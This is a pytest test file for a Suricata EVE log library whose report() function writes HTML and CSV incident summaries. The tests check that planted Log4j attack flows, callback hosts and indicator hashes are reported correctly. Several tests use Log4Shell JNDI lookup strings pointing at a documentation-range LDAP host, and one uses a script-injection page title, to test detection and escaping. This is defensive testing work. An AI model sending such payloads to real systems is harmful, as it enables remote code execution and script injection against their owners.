"""A report holds all that was planted, tells it from any frame, and says what is wrong."""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import ipaddress
import json
import os
import re
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest
from report_pages import read_page, read_sheet

import suricata_eve
from suricata_eve import EveAccessor, EveOptionError, EveTypeError, MissingColumnError, report
from suricata_eve.printable import plain
from suricata_eve.reports import incident
from suricata_eve.reports.sections import COLUMNS

DATA = Path(__file__).parent.parent / "data"
KEYS = ["signature", "attempt", "indicator", "alert", "payload", "flow", "timeline"]


@pytest.fixture(scope="module", params=["sample7", "sample8"])
def sample(request: pytest.FixtureRequest) -> pd.DataFrame:
    frame = request.getfixturevalue(request.param)
    assert isinstance(frame, pd.DataFrame)
    return frame


@pytest.fixture(scope="module")
def written(sample: pd.DataFrame, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    page, table = report(sample, tmp_path_factory.mktemp("report") / "all.html", max_rows=10**6)
    return page, table


def alerts(*signatures: str, **more: pa.Array) -> pd.DataFrame:
    """Return alerts of one second each, each of its own flow."""
    count = len(signatures)
    known: dict[str, Any] = {
        "timestamp": pa.array(
            [1640995200_000000 + n * 10**6 for n in range(count)], pa.timestamp("us", "UTC")
        ),
        "event_type": pa.array(["alert"] * count, pa.string()),
        "flow_id": pa.array(range(1, count + 1), pa.int64()),
        "src_ip": pa.array(["192.0.2.1"] * count, pa.string()),
        "dest_ip": pa.array(["198.51.100.1"] * count, pa.string()),
        "src_port": pa.array([50000] * count, pa.uint16()),
        "dest_port": pa.array([80] * count, pa.uint16()),
        "direction": pa.array(["to_server"] * count, pa.string()),
        "alert.signature": pa.array(signatures, pa.string()),
    }
    known |= {name.replace("__", "."): values for name, values in more.items()}
    arrays = {name: pd.arrays.ArrowExtensionArray(values) for name, values in known.items()}
    return pd.DataFrame(arrays, index=pd.Index([7] * count))


def address(text: str) -> str:
    """Spell an address as short as it goes; of other text nothing."""
    try:
        return str(ipaddress.ip_address(text))
    except ValueError:
        return ""


def test_all_that_was_planted_is_in_the_page_and_in_the_csv(
    written: tuple[Path, Path], truth: dict[str, Any]
) -> None:
    page, rows = read_page(written[0]), read_sheet(written[1])
    payloads = [row for row in rows if row["section"] == "payload"]
    shown = page.tables["payload"][1:]
    scores = 0
    for flow in truth["log4j_flows"]:
        for field in flow["fields"]:
            if field.get("decoded") is None:
                continue
            decoded = plain(field["decoded"])
            found = [row for row in payloads if row["decoded"].removeprefix("'") == decoded]
            assert address(flow["src_ip"]) in {address(row["client_ip"]) for row in found}
            start = decoded[:200]
            clients = {address(row[1]) for row in shown if row[4].startswith(start)}
            assert address(flow["src_ip"]) in clients
            scores += 1
    assert scores >= 90
    hosts = {row["callback_host"] for row in payloads}
    for host in truth["callback_hosts"]:
        assert host in hosts
        assert host in page.text


def test_hashes_of_planted_files_are_indicators(
    written: tuple[Path, Path], truth: dict[str, Any]
) -> None:
    page, rows = read_page(written[0]), read_sheet(written[1])
    listed = {row["text"] for row in rows if row["section"] == "indicator"}
    shown = {row[1] for row in page.tables["indicator"]}
    for flow in truth["special"]["shell_script_download"]:
        if "sha256" in flow:
            assert flow["sha256"] in listed
            assert flow["sha256"] in shown


def test_the_page_and_the_csv_have_the_same_tables(
    written: tuple[Path, Path], sample: pd.DataFrame
) -> None:
    page, rows = read_page(written[0]), read_sheet(written[1])
    counts = {key: sum(row["section"] == key for row in rows) for key in KEYS}

    assert list(page.tables) == KEYS
    assert {key: len(page.tables[key]) - 1 for key in KEYS} == counts
    assert list(rows[0]) == list(COLUMNS)
    assert counts["alert"] == (sample["event_type"] == "alert").sum()
    assert counts["flow"] == (sample["event_type"] == "flow").sum()
    assert counts["signature"] == sample["alert.signature"].nunique()
    assert list(dict.fromkeys(row["section"] for row in rows)) == KEYS


def test_the_csv_has_the_values_of_the_frame(
    written: tuple[Path, Path], sample: pd.DataFrame
) -> None:
    """As pandas reads it: times to the microsecond, integers and flow IDs exactly."""
    table = pd.read_csv(written[1], low_memory=False)
    got = table[table["section"] == "alert"]
    expected = sample.eve.alerts(view="concise")
    whole = sample.eve.alerts()

    assert pd.to_datetime(got["time"]).tolist() == expected["timestamp"].tolist()
    ids = got["flow_id"].str.removeprefix("'").astype("Int64")
    assert ids.tolist() == expected["flow_id"].astype("Int64").tolist()
    assert got["text"].tolist() == expected["signature"].tolist()
    assert got["client_ip"].dropna().tolist() == expected["client"].dropna().tolist()
    assert got["server_ip"].dropna().tolist() == expected["server"].dropna().tolist()
    assert got["sid"].astype(int).tolist() == whole["alert.signature_id"].tolist()
    assert got["severity"].astype(int).tolist() == whole["alert.severity"].tolist()
    flows = table[table["section"] == "flow"]
    told = sample.eve.flows()
    assert flows["bytes_to_client"].astype(int).tolist() == told["bytes_to_client"].tolist()
    assert np.array_equal(flows["duration"], told["duration"].to_numpy(float), equal_nan=True)


def test_the_most_severe_and_the_most_tried_are_first(written: tuple[Path, Path]) -> None:
    rows = [row for row in read_sheet(written[1]) if row["section"] == "signature"]
    order = [(int(row["severity"]), -int(row["count"])) for row in rows]
    attempts = [row for row in read_sheet(written[1]) if row["section"] == "attempt"]
    flows = [int(row["flows"]) for row in attempts]

    assert order == sorted(order)
    assert flows == sorted(flows, reverse=True)


def test_a_page_that_shows_some_says_so(sample7: pd.DataFrame, tmp_path: Path) -> None:
    page = read_page(report(sample7, tmp_path / "a.html", max_rows=5)[0])

    assert {len(page.tables[key]) for key in KEYS} == {6}
    assert "5 of 863 are shown, the most severe, and of these the first; all are in a.csv." in (
        page.text
    )
    severities = {row[1] for row in page.tables["alert"][1:]}
    assert severities == {"1"}
    assert {row[8] for row in page.tables["flow"][1:]} == {"yes"}
    assert len({row[0] for row in page.tables["indicator"][1:]}) == 5


def test_a_page_without_rows(sample7: pd.DataFrame, tmp_path: Path) -> None:
    page = read_page(report(sample7, tmp_path / "a.html", max_rows=0, csv=False)[0])

    assert not any(page.tables.values())
    assert "0 of 863 are shown, the most severe, and of these the first." in page.text
    assert ".csv" not in page.text


def test_the_same_events_give_the_same_bytes(sample7: pd.DataFrame, tmp_path: Path) -> None:
    part = sample7.eve.by_flow(sample7.eve.alerts(sid=9000001))
    one = report(part, tmp_path / "a.html")
    data = [path.read_bytes() for path in one]
    report(part.copy(), tmp_path / "a.html")

    assert [path.read_bytes() for path in one] == data


def test_nothing_depends_on_attrs(sample7: pd.DataFrame, tmp_path: Path) -> None:
    """They are told where they are what they should be, and no trouble where they are not."""
    part = sample7.head(50)
    told = read_page(report(part, tmp_path / "a.html")[0])
    assert "log4j.json.gz" in told.text
    assert "/sample/" not in told.text
    assert "0 of 9,722 lines of the log were left out" in told.text
    wrong: list[Any] = [5, {"sources": 7, "lines": "x"}, {"sources": []}]
    for attrs in [{}, *({"eve": one} for one in wrong)]:
        other = part.copy()
        other.attrs.clear()
        other.attrs.update(attrs)
        page = read_page(report(other, tmp_path / "b.html")[0])
        assert page.tables == told.tables
        assert "Not read" not in page.text


def test_the_frame_is_not_changed(sample7: pd.DataFrame, tmp_path: Path) -> None:
    frame = sample7.head(300).copy()
    before, attrs = frame.copy(deep=True), dict(frame.attrs)
    report(frame, tmp_path / "a.html")

    pd.testing.assert_frame_equal(frame, before)
    assert frame.attrs == attrs


def raw_frame() -> pd.DataFrame:
    lines = gzip.decompress((DATA / "log4j-suricata8.json.gz").read_bytes()).splitlines()[:400]
    return pd.json_normalize([json.loads(line) for line in lines])


def test_a_frame_of_json_normalize_gives_the_same_report(tmp_path: Path) -> None:
    """Repaired or raw, as long as its floats are exact, and with pandas' own nullable dtypes."""
    lines = gzip.decompress((DATA / "log4j-suricata8.json.gz").read_bytes()).splitlines()[:400]
    data = b"\n".join(lines)
    frames = {
        "arrow": suricata_eve.read_eve(io.BytesIO(data)),
        "nullable": suricata_eve.read_eve(io.BytesIO(data), dtype_backend="numpy_nullable"),
        "repaired": suricata_eve.normalize_types(raw_frame()),
        "raw": raw_frame(),
    }
    written = {}
    for name, frame in frames.items():
        frame.attrs = {}
        path = report(frame.sample(frac=1, random_state=1), tmp_path / f"{name}.html")[1]
        written[name] = read_sheet(path)

    assert written["nullable"] == written["arrow"]
    assert written["repaired"] == written["arrow"]
    assert len(written["raw"]) == len(written["arrow"])


@pytest.mark.parametrize("kinds", [(), ("alert",), ("flow", "dns"), ("http",), ("stats",)], ids=str)
def test_a_report_of_anything(
    sample7: pd.DataFrame, tmp_path: Path, kinds: tuple[str, ...]
) -> None:
    """Without alerts, without flows, without any event: the same tables, some of them empty."""
    frame = sample7[sample7["event_type"].isin(kinds)]
    there = frame.columns[frame.notna().any()]
    frame = frame[list(dict.fromkeys(["event_type", "timestamp", *there]))]
    page, table = report(frame, tmp_path / "a.html")

    told = read_page(page)
    assert list(told.tables) == KEYS
    assert bool(told.tables["alert"]) == ("alert" in kinds)
    assert bool(told.tables["flow"]) == ("flow" in kinds)
    assert ("No alerts." in told.text) == ("alert" not in kinds)
    assert table.read_bytes().startswith(b'\xef\xbb\xbf"section",')
    read_sheet(table)


def test_two_columns_are_enough(tmp_path: Path) -> None:
    frame = pd.DataFrame({"event_type": ["alert"], "timestamp": ["2022-01-01T00:00:00+0000"]})
    page = read_page(report(frame, tmp_path / "a.html")[0])

    assert page.tables["alert"][1][0] == "2022-01-01 00:00:00.000"
    assert page.tables["signature"][1][1] == "(no signature)"


def test_statistics_of_another_year_do_not_stretch_the_time(tmp_path: Path) -> None:
    frame = alerts("a", "b", "c")
    late = frame[["event_type", "timestamp"]].assign(
        event_type="stats", timestamp=pd.Timestamp("2026-05-05", tz="UTC")
    )
    page = read_page(report(pd.concat([frame, late]), tmp_path / "a.html")[0])

    assert "from 2022-01-01 00:00:00.000 to 2022-01-01 00:00:02.000 UTC" in page.text
    assert "a bar is 1 second" in page.text
    assert "2026" not in page.text


def test_times_that_no_calendar_has_are_missing(tmp_path: Path) -> None:
    moments = [2**63 - 1, -(2**63) + 1, 253_402_300_799_999_999, -62_135_596_800_000_000]
    times = pa.array(moments, pa.timestamp("us", "UTC"))
    page, table = report(alerts(*"abcd", timestamp=times), tmp_path / "a.html")
    got = [(row["text"], row["time"]) for row in read_sheet(table) if row["section"] == "alert"]

    last, first = "9999-12-31T23:59:59.999999Z", "0001-01-01T00:00:00.000000Z"
    assert sorted(got) == [("a", ""), ("b", ""), ("c", last), ("d", first)]
    assert "from 0001-01-01 00:00:00.000 to 9999-12-31 23:59:59.999 UTC" in read_page(page).text


def test_flow_ids_beyond_int64_are_exact(tmp_path: Path) -> None:
    lookup = "${jndi:ldap://192.0.2.66:1389/a}"
    ids = pa.array([2**64 - 1, 2**53 + 1], pa.uint64())
    frame = alerts("a", "b", flow_id=ids, http__url=pa.array([lookup, lookup]))
    page, table = report(frame, tmp_path / "a.html")
    rows = read_sheet(table)

    expected = [f"'{2**64 - 1}", f"'{2**53 + 1}"]
    for key in ("alert", "payload", "timeline"):
        assert [row["flow_id"] for row in rows if row["section"] == key] == expected
        assert [row[-1] for row in read_page(page).tables[key][1:]] == [e[1:] for e in expected]


def test_a_payload_is_told_once_per_flow_and_field(tmp_path: Path) -> None:
    """With the first and the last time, and in how many events it is."""
    lookups = [f"${{jndi:ldap://192.0.2.66:1389/{name}}}" for name in "aabaa"]
    frame = alerts(
        *"vwxyz", flow_id=pa.array([1, 1, 1, 1, 2], pa.int64()), http__url=pa.array(lookups)
    )
    rows = read_sheet(report(frame.iloc[[3, 0, 4, 2, 1]], tmp_path / "a.html")[1])
    payloads = [row for row in rows if row["section"] == "payload"]
    told = [
        (row["flow_id"], row["text"][-2], row["time"][17:19], row["last_seen"][17:19], row["count"])
        for row in payloads
    ]

    assert told == [
        ("'1", "a", "00", "03", "3"),
        ("'1", "b", "02", "02", "1"),
        ("'2", "a", "04", "04", "1"),
    ]


def test_long_text_is_cut_in_the_page_with_its_length_and_whole_in_the_csv(tmp_path: Path) -> None:
    long, longer = "a" * 5000, "\U0001f600" * 40_000
    page, table = report(alerts(long, longer), tmp_path / "a.html")
    cells = [row[2] for row in read_page(page).tables["alert"][1:]]
    texts = [row["text"] for row in read_sheet(table) if row["section"] == "alert"]

    assert cells[0].endswith("a… cut here, of 5,000 characters")
    assert cells[1].endswith("of 40,000 characters")
    assert texts[0] == long
    assert len(texts[1]) == 16_000
    assert texts[1].endswith("…")
    assert all(len(text.encode("utf-16-le")) // 2 <= 32_767 for text in texts)


def test_the_title_is_text(sample7: pd.DataFrame, tmp_path: Path) -> None:
    title = "</title><script>x</script> & \u202e \"'"
    page = read_page(report(sample7.head(5), tmp_path / "a.html", title=title)[0])

    assert page.title == page.heading == plain(title)


def test_the_policy_lets_in_the_style_and_nothing_else(written: tuple[Path, Path]) -> None:
    text = written[0].read_text("ascii")
    (style,) = re.findall(r"<style>(.*?)</style>", text, re.DOTALL)
    (policy,) = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]*)"', text)
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()

    assert policy == (
        f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    )
    assert "url(" not in style
    assert "@import" not in style
    assert text.index("charset") < text.index("Content-Security-Policy") < text.index("<title>")


def test_a_method_writes_what_the_function_writes(sample7: pd.DataFrame, tmp_path: Path) -> None:
    part = sample7.head(40)
    one = report(part, tmp_path / "a.html", title="x", max_rows=3)
    data = [path.read_bytes() for path in one]
    other = EveAccessor(part).report(str(tmp_path / "a.html"), title="x", max_rows=3)

    assert one == other == (tmp_path / "a.html", tmp_path / "a.csv")
    assert [path.read_bytes() for path in other] == data


@pytest.mark.parametrize("name", ["a.htm", "a.HTML", "a.b.html", "ä ß.html"])
def test_names_of_files(sample7: pd.DataFrame, tmp_path: Path, name: str) -> None:
    page, table = report(sample7.head(5), tmp_path / name)

    assert page.name == name
    assert table.name == name.rpartition(".")[0] + ".csv"
    assert {path.name for path in tmp_path.iterdir()} == {page.name, table.name}


@pytest.mark.parametrize(
    ("path", "options", "error"),
    [
        ("a.pdf", {}, (EveOptionError, ".html")),
        ("a", {}, (EveOptionError, ".html")),
        ("a.html.gz", {}, (EveOptionError, ".html")),
        ("missing/a.html", {}, (FileNotFoundError, "there is no folder")),
        ("a.html", {"max_rows": -1}, (EveOptionError, "max_rows")),
        ("a.html", {"max_rows": True}, (EveTypeError, "max_rows")),
        ("a.html", {"max_rows": 2.0}, (EveTypeError, "max_rows")),
        ("a.html", {"title": None}, (EveTypeError, "title")),
        ("a.html", {"csv": "b.csv"}, (EveTypeError, r"csv.*True or False")),
        ("a.html", {"csv": None}, (EveTypeError, r"csv.*True or False")),
        (".html", {}, (EveOptionError, "such as 'incident.html'")),
    ],
)
def test_errors_say_what_is_wrong_and_leave_nothing(
    sample7: pd.DataFrame, tmp_path: Path, path: str, options: dict[str, Any], error: Any
) -> None:
    kind, words = error
    with pytest.raises(kind, match=words):
        report(sample7.head(5), tmp_path / path, **options)

    assert list(tmp_path.iterdir()) == []


def test_a_file_object_is_no_path(sample7: pd.DataFrame) -> None:
    with pytest.raises(EveTypeError, match="two files"):
        report(sample7.head(5), io.BytesIO())  # type: ignore[arg-type]


@pytest.mark.parametrize("name", ["event_type", "timestamp"])
def test_columns_that_it_cannot_do_without(
    sample7: pd.DataFrame, tmp_path: Path, name: str
) -> None:
    with pytest.raises(MissingColumnError, match=r"report\(\) needs the column"):
        report(sample7.head(5).drop(columns=name), tmp_path / "a.html")

    assert list(tmp_path.iterdir()) == []


def test_a_csv_that_is_not_a_reports_is_not_replaced(sample7: pd.DataFrame, tmp_path: Path) -> None:
    """Nobody named it. An earlier report's is replaced, as the page is."""
    mine = tmp_path / "a.csv"
    mine.write_text("my,work\n", encoding="utf-8")
    with pytest.raises(EveOptionError, match="csv=False"):
        report(sample7.head(5), tmp_path / "a.html")
    assert mine.read_text(encoding="utf-8") == "my,work\n"
    assert not (tmp_path / "a.html").exists()

    assert report(sample7.head(5), tmp_path / "a.html", csv=False) == (tmp_path / "a.html",)
    mine.unlink()
    report(sample7.head(5), tmp_path / "a.html")
    before = mine.read_bytes()
    report(sample7.head(500), tmp_path / "a.html")
    assert mine.read_bytes() != before


@pytest.mark.parametrize("make", ["mkdir", "mkfifo"])
def test_what_is_no_file_in_the_place_of_the_csv_is_refused(
    sample7: pd.DataFrame, tmp_path: Path, make: str
) -> None:
    """At once: reading a pipe would wait for somebody to write."""
    getattr(os, make)(tmp_path / "a.csv")
    with pytest.raises(EveOptionError, match="csv=False"):
        report(sample7.head(5), tmp_path / "a.html")

    assert [path.name for path in tmp_path.iterdir()] == ["a.csv"]


def test_both_files_appear_or_none(
    sample7: pd.DataFrame, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(_: object) -> Any:
        yield b"begun"
        msg = "full"
        raise OSError(msg)

    monkeypatch.setattr(incident, "sheet", broken)
    with pytest.raises(OSError, match="full"):
        report(sample7.head(5), tmp_path / "a.html")

    assert list(tmp_path.iterdir()) == []
